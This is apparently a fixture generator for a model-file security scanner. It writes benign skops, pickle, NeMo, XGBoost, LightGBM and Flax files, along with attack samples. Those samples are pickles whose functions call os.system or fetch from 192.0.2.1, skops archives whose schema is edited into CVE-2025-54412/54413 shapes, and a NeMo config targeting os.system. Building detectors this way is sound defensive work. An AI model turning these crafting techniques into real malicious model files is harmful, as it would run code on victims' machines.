#!/usr/bin/env python3
"""Writes the long-tail reference fixtures in tests/data/longtail/ with the real writers (issue 16).

Pinned versions (install into a venv; needs PyPI, nothing else):
    python3 -m venv /tmp/venv-longtail
    /tmp/venv-longtail/bin/pip install skops==0.11.0 scikit-learn==1.9.1 numpy==2.4.6 \
        scipy==1.17.1 dill==0.3.9 cloudpickle==3.1.1 omegaconf==2.3.0 \
        xgboost-cpu==3.1.2 lightgbm==4.6.0 msgpack==1.1.2 flax==0.12.0 jax==0.10.2 jaxlib==0.10.2
    /tmp/venv-longtail/bin/python scripts/longtail_reference.py tests/data/longtail

What is written, and what the scanner must say (tests/longtail_reference.rs):
- `benign/`: ordinary files of each library in ordinary use: skops archives of common
  estimators, dill and cloudpickle pickles of plain data and of module-level functions,
  OmegaConf-saved NeMo-style configurations packed into `.nemo` tars the way NeMo's
  `SaveRestoreConnector` packs them, XGBoost UBJSON/JSON and LightGBM text models, Flax
  `to_bytes` msgpack state. Each is `clean` with no finding above `info` (one skops archive
  holds types skops itself lists as untrusted: `suspicious`, SKP002, as skops would say).
- `code/`: dill and cloudpickle pickles of lambdas and local functions (functions pickled by
  value, rebuilt from code when loaded): `suspicious`, PKL010, never malicious.
- `attacks/`: files the real writers produce from a hostile object: a cloudpickle/dill pickle of
  a function whose code calls `os.system` (PKL011), and real skops archives whose `schema.json`
  was edited into the CVE-2025-54412/54413 shapes (SKP001).

The script only writes files; it never loads one back.
"""
import functools
import io
import json
import os
import sys
import tarfile
import zipfile

import cloudpickle
import dill
import numpy as np
import skops.io as sio
from omegaconf import OmegaConf
from sklearn.ensemble import HistGradientBoostingClassifier, RandomForestClassifier
from sklearn.linear_model import LogisticRegression, SGDClassifier
from sklearn.pipeline import make_pipeline
from sklearn.preprocessing import FunctionTransformer, StandardScaler
from sklearn.tree import DecisionTreeClassifier

FIXED_MTIME = 1_700_000_000


def data():
    rng = np.random.RandomState(0)
    x = rng.rand(40, 4)
    y = (x[:, 0] + x[:, 1] > 1).astype(int)
    return x, y


def write(path, blob):
    os.makedirs(os.path.dirname(path), exist_ok=True)
    with open(path, "wb") as f:
        f.write(blob)


def skops_models(out):
    x, y = data()
    models = {
        "skops_logistic.skops": LogisticRegression().fit(x, y),
        "skops_tree.skops": DecisionTreeClassifier(max_depth=3, random_state=0).fit(x, y),
        "skops_forest.skops": RandomForestClassifier(n_estimators=3, max_depth=2, random_state=0).fit(x, y),
        "skops_sgd.skops": SGDClassifier(random_state=0).fit(x, y),
        "skops_hgb.skops": HistGradientBoostingClassifier(max_iter=3).fit(x, y),
        "skops_pipeline_log1p.skops": make_pipeline(
            FunctionTransformer(np.log1p), StandardScaler(), LogisticRegression()
        ).fit(x, y),
        "skops_random_state.skops": SGDClassifier(random_state=np.random.RandomState(3)).fit(x, y),
    }
    for name, model in models.items():
        write(os.path.join(out, "benign", name), sio.dumps(model))


def edit_schema(blob, edit):
    """Rewrites schema.json of a skops archive (members and their order kept)."""
    src = zipfile.ZipFile(io.BytesIO(blob))
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", compression=zipfile.ZIP_DEFLATED) as dst:
        for info in src.infolist():
            content = src.read(info)
            if info.filename == "schema.json":
                schema = json.loads(content)
                edit(schema)
                content = json.dumps(schema).encode()
            dst.writestr(info, content)
    return buf.getvalue()


def find_func(schema):
    """The `func` node of the first FunctionTransformer."""
    stack = [schema]
    while stack:
        node = stack.pop()
        if isinstance(node, dict):
            if node.get("__class__") == "FunctionTransformer":
                return node["content"]["content"]
            stack.extend(node.values())
        elif isinstance(node, list):
            stack.extend(node)
    raise LookupError("no FunctionTransformer")


def skops_attacks(out):
    x, y = data()
    blob = sio.dumps(make_pipeline(FunctionTransformer(np.log1p), LogisticRegression()).fit(x, y))

    def posix_system(schema):
        find_func(schema)["func"].update({"__class__": "system", "__module__": "posix"})

    def runstring(schema):
        find_func(schema)["func"].update(
            {"__class__": "runstring", "__module__": "numpy.testing._private.utils"})

    def method_write_text(schema):
        find_func(schema)["func"] = {
            "__class__": "method", "__module__": "builtins", "__loader__": "MethodNode",
            "content": {"func": "write_text", "obj": {
                "__class__": "PosixPath", "__module__": "pathlib", "__loader__": "ObjectNode",
                "content": {"__class__": "tuple", "__module__": "builtins", "__loader__": "TupleNode",
                            "content": []}, "__id__": 7}},
            "__id__": 8}

    for name, edit in [("skops_func_posix_system.skops", posix_system),
                       ("skops_func_runstring.skops", runstring),
                       ("skops_method_write_text.skops", method_write_text)]:
        write(os.path.join(out, "attacks", name), edit_schema(blob, edit))


def scale(v):
    return v * 2


def pickled_functions(out):
    payload = {"weights": [0.5, 0.25], "name": "plain"}
    write(os.path.join(out, "benign", "dill_plain_data.pkl"), dill.dumps(payload))
    write(os.path.join(out, "benign", "cloudpickle_plain_data.pkl"), cloudpickle.dumps(payload))
    # A module-level function of an importable module is pickled by reference.
    write(os.path.join(out, "benign", "cloudpickle_numpy_function.pkl"), cloudpickle.dumps(np.log1p))
    # dill writes functools.partial through `_load_type('PartialType')`.
    write(os.path.join(out, "benign", "dill_partial_numpy.pkl"),
          dill.dumps(functools.partial(np.multiply, 2.0)))

    # Functions pickled by value: rebuilt from their code object when loaded.
    double = lambda v: v * 2  # noqa: E731
    def local_scale(v, factor=3.0):
        return np.multiply(v, factor)
    write(os.path.join(out, "code", "dill_lambda.pkl"), dill.dumps(double))
    write(os.path.join(out, "code", "dill_local_function.pkl"), dill.dumps(local_scale))
    write(os.path.join(out, "code", "dill_recurse_lambda.pkl"), dill.dumps(double, recurse=True))
    write(os.path.join(out, "code", "cloudpickle_lambda.pkl"), cloudpickle.dumps(double))
    write(os.path.join(out, "code", "cloudpickle_local_function.pkl"), cloudpickle.dumps(local_scale))

    # The same writers given a hostile function: what an attacker ships.
    def hook(v):
        import os as _os
        _os.system("echo quarantine-sample")
        return v
    write(os.path.join(out, "attacks", "cloudpickle_os_system.pkl"), cloudpickle.dumps(hook))
    write(os.path.join(out, "attacks", "dill_os_system.pkl"), dill.dumps(hook))
    fetch = lambda: __import__("urllib.request").request.urlopen("http://192.0.2.1/x")  # noqa: E731
    write(os.path.join(out, "attacks", "dill_lambda_urlopen.pkl"), dill.dumps(fetch))


def nemo_config():
    return OmegaConf.create({
        "sample_rate": 16000,
        "target": "nemo.collections.asr.models.ctc_models.EncDecCTCModel",
        "preprocessor": {
            "_target_": "nemo.collections.asr.modules.AudioToMelSpectrogramPreprocessor",
            "sample_rate": 16000, "normalize": "per_feature", "window_size": 0.025,
            "features": 64,
        },
        "encoder": {
            "_target_": "nemo.collections.asr.modules.ConvASREncoder",
            "feat_in": 64, "activation": "relu",
            "jasper": [{"filters": 32, "repeat": 1, "kernel": [11], "stride": [1],
                        "dilation": [1], "dropout": 0.0, "residual": False}],
        },
        "decoder": {
            "_target_": "nemo.collections.asr.modules.ConvASRDecoder",
            "feat_in": 32, "num_classes": 28,
            "vocabulary": [" ", "a", "b", "c"],
        },
        "optim": {"name": "adam", "lr": 0.001,
                  "sched": {"name": "CosineAnnealing", "warmup_steps": None}},
        "train_ds": {"manifest_filepath": None, "batch_size": 4, "shuffle": True},
    })


def pack_nemo(path, files):
    """A `.nemo` the way NeMo's SaveRestoreConnector writes it: tarfile over a folder, `./` names."""
    os.makedirs(os.path.dirname(path), exist_ok=True)
    with tarfile.open(path, "w:") as tar:
        for name, blob in files:
            info = tarfile.TarInfo("./" + name)
            info.size = len(blob)
            info.mtime = FIXED_MTIME
            tar.addfile(info, io.BytesIO(blob))


def nemo_files(out):
    cfg = nemo_config()
    yaml_text = OmegaConf.to_yaml(cfg).encode()
    write(os.path.join(out, "benign", "nemo_model_config.yaml"), yaml_text)
    # torch is not installed for this script: the checkpoint is the spec-built `torch.save` zip
    # of samples/generate.py (an nn.Linear state_dict), as NeMo stores model_weights.ckpt.
    sys.path.insert(0, os.path.join(os.path.dirname(os.path.abspath(__file__)), "..", "samples"))
    import generate  # noqa: E402
    weights = generate.torch_state_dict_pt()
    pack_nemo(os.path.join(out, "benign", "asr_model.nemo"),
              [("model_config.yaml", yaml_text), ("model_weights.ckpt", weights)])
    evil = OmegaConf.create(OmegaConf.to_container(cfg))
    evil.preprocessor = {"_target_": "os.system", "command": "echo quarantine-sample"}
    pack_nemo(os.path.join(out, "attacks", "nemo_target_os_system.nemo"),
              [("model_config.yaml", OmegaConf.to_yaml(evil).encode()), ("model_weights.ckpt", weights)])


def gbm_models(out):
    import lightgbm as lgb
    import xgboost as xgb
    x, y = data()
    names = ["age", "income", "score", "tenure"]
    booster = xgb.train({"max_depth": 2, "objective": "binary:logistic", "seed": 0},
                        xgb.DMatrix(x, label=y, feature_names=names), num_boost_round=3)
    os.makedirs(os.path.join(out, "benign"), exist_ok=True)
    booster.save_model(os.path.join(out, "benign", "xgboost_model.ubj"))
    booster.save_model(os.path.join(out, "benign", "xgboost_model.json"))
    model = lgb.train({"objective": "binary", "verbose": -1, "num_leaves": 4, "seed": 0},
                      lgb.Dataset(x, label=y, feature_name=names), num_boost_round=3)
    model.save_model(os.path.join(out, "benign", "lightgbm_model.txt"))


def flax_state(out):
    import jax
    import jax.numpy as jnp
    from flax import linen as nn
    from flax import serialization

    class Mlp(nn.Module):
        @nn.compact
        def __call__(self, v):
            return nn.Dense(2)(nn.relu(nn.Dense(8)(v)))

    params = Mlp().init(jax.random.PRNGKey(0), jnp.ones((1, 4)))
    write(os.path.join(out, "benign", "flax_mlp.msgpack"), serialization.to_bytes(params))
    state = {"params": params, "step": 3, "lr": 0.001, "complex": jnp.array([1 + 2j])}
    write(os.path.join(out, "benign", "flax_state.msgpack"), serialization.to_bytes(state))


def main():
    out = sys.argv[1] if len(sys.argv) > 1 else "tests/data/longtail"
    skops_models(out)
    skops_attacks(out)
    pickled_functions(out)
    nemo_files(out)
    gbm_models(out)
    flax_state(out)


if __name__ == "__main__":
    main()
